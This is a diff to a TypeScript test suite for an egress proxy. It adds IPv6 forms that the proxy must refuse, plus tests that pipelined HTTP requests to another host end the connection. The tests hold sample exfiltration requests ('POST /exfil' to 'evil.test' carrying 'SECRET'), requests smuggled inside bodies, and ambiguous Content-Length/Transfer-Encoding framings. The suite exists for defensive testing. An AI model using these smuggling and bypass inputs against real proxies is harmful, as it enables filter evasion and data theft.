@@ -513,7 +513,14 @@ describe('names, ports and addresses', () => {
       '::ffff:169.254.169.254',
       '::ffff:a00:1',
       '64:ff9b::10.0.0.1',
-      '2002:c0a8:101::1'
+      '2002:c0a8:101::1',
+      // Found by the red team: IPv4-compatible, site-local, local-use NAT64, Teredo, discard.
+      '::7f00:1',
+      '::127.0.0.1',
+      'fec0::1',
+      '64:ff9b:1::a00:1',
+      '2001:0:4136:e378::1',
+      '100::1'
     ])
       expect([address, refusedAddress(address)]).toEqual([address, true]);
     for (const address of [
@@ -730,4 +737,101 @@ describe('sni.ts, property-based', () => {
     expect(firstBytes(spread.subarray(0, sent.length - 10)).kind).toBe('neither');
     expect(firstBytes(Buffer.alloc(MAX_FIRST_BYTES + 1, 'a')).kind).toBe('neither');
   });
+});
+
+describe('plain HTTP: every request of a connection is checked, not only its first', () => {
+  /** Waits until the stand-in's connection has ended, and gives what it received. */
+  async function received(up: Standin): Promise<string> {
+    const arrival = await up.next();
+    await arrival.closed;
+    return arrival.bytes().toString('latin1');
+  }
+  const req = (lines: string[], body = ''): string => `${lines.join('\r\n')}\r\n\r\n${body}`;
+
+  test('was a hole: a keep-alive request naming another Host in a CONNECT tunnel ends it there', async () => {
+    const up = await standin();
+    const proxy = await proxyWith({
+      hosts: [{ pattern: 'standin.test', port: up.port }],
+      pinned: new Map([['standin.test', LOCAL]])
+    });
+    const first = req(['GET / HTTP/1.1', `Host: standin.test:${up.port}`]);
+    const second = req(['POST /exfil HTTP/1.1', 'Host: evil.test', 'Content-Length: 6'], 'SECRET');
+    const socket = await tunnel(proxy, `standin.test:${up.port}`, Buffer.from(first + second));
+    socket.resume();
+    expect(await received(up)).toBe(first);
+    expect(proxy.refusals()).toEqual([
+      { name: 'standin.test', port: up.port, why: 'host-mismatch', count: 1 }
+    ]);
+  });
+
+  test('was a hole: absolute-form, a second request to another host on the same connection ends it', async () => {
+    const up = await standin();
+    const proxy = await proxyWith({
+      hosts: [{ pattern: 'standin.test', port: up.port }],
+      pinned: new Map([['standin.test', LOCAL]])
+    });
+    const target = `standin.test:${up.port}`;
+    const first = req([`GET http://${target}/ HTTP/1.1`, `Host: ${target}`]);
+    const second = req(
+      ['POST http://evil.test/exfil HTTP/1.1', 'Host: evil.test', 'Content-Length: 6'],
+      'SECRET'
+    );
+    const socket = client(proxy);
+    socket.write(first + second);
+    expect(await received(up)).toBe(first);
+    expect(proxy.refusals()).toEqual([
+      { name: 'standin.test', port: up.port, why: 'host-mismatch', count: 1 }
+    ]);
+  });
+
+  test('bodies are framed: a request inside a body, chunked or by length, is body; the next head is checked', async () => {
+    const up = await standin();
+    const proxy = await proxyWith({
+      hosts: [{ pattern: 'standin.test', port: up.port }],
+      pinned: new Map([['standin.test', LOCAL]])
+    });
+    const host = `Host: standin.test:${up.port}`;
+    const inner = req(['GET / HTTP/1.1', 'Host: evil.test']);
+    const byLength = req(['POST /a HTTP/1.1', host, `Content-Length: ${inner.length}`], inner);
+    const chunked =
+      req(['POST /b HTTP/1.1', host, 'Transfer-Encoding: chunked'], '') +
+      `${inner.length.toString(16)};ext=1\r\n${inner}\r\n0\r\nX-Trailer: 1\r\n\r\n`;
+    const third = req(['GET /c HTTP/1.1', host]);
+    const fourth = req(['GET /d HTTP/1.1', 'Host: evil.test']);
+    const socket = await tunnel(
+      proxy,
+      `standin.test:${up.port}`,
+      Buffer.from(byLength + chunked + third + fourth)
+    );
+    socket.resume();
+    expect(await received(up)).toBe(byLength + chunked + third);
+  });
+
+  test.each([
+    [
+      'Content-Length and Transfer-Encoding both',
+      ['Content-Length: 3', 'Transfer-Encoding: chunked']
+    ],
+    ['two lengths', ['Content-Length: 3', 'Content-Length: 4']],
+    ['a coding other than chunked', ['Transfer-Encoding: gzip, chunked']],
+    ['an Upgrade', ['Upgrade: websocket', 'Connection: Upgrade']]
+  ])(
+    'a later request framed two ways (%s) ends the connection before it goes on',
+    async (_what, fields) => {
+      const up = await standin();
+      const proxy = await proxyWith({
+        hosts: [{ pattern: 'standin.test', port: up.port }],
+        pinned: new Map([['standin.test', LOCAL]])
+      });
+      const host = `Host: standin.test:${up.port}`;
+      const first = req(['GET / HTTP/1.1', host]);
+      const second = req(['POST /x HTTP/1.1', host, ...fields], 'abc');
+      const socket = await tunnel(proxy, `standin.test:${up.port}`, Buffer.from(first + second));
+      socket.resume();
+      expect(await received(up)).toBe(first);
+      expect(proxy.refusals()).toEqual([
+        { name: 'standin.test', port: up.port, why: 'bad-request', count: 1 }
+      ]);
+    }
+  );
 });
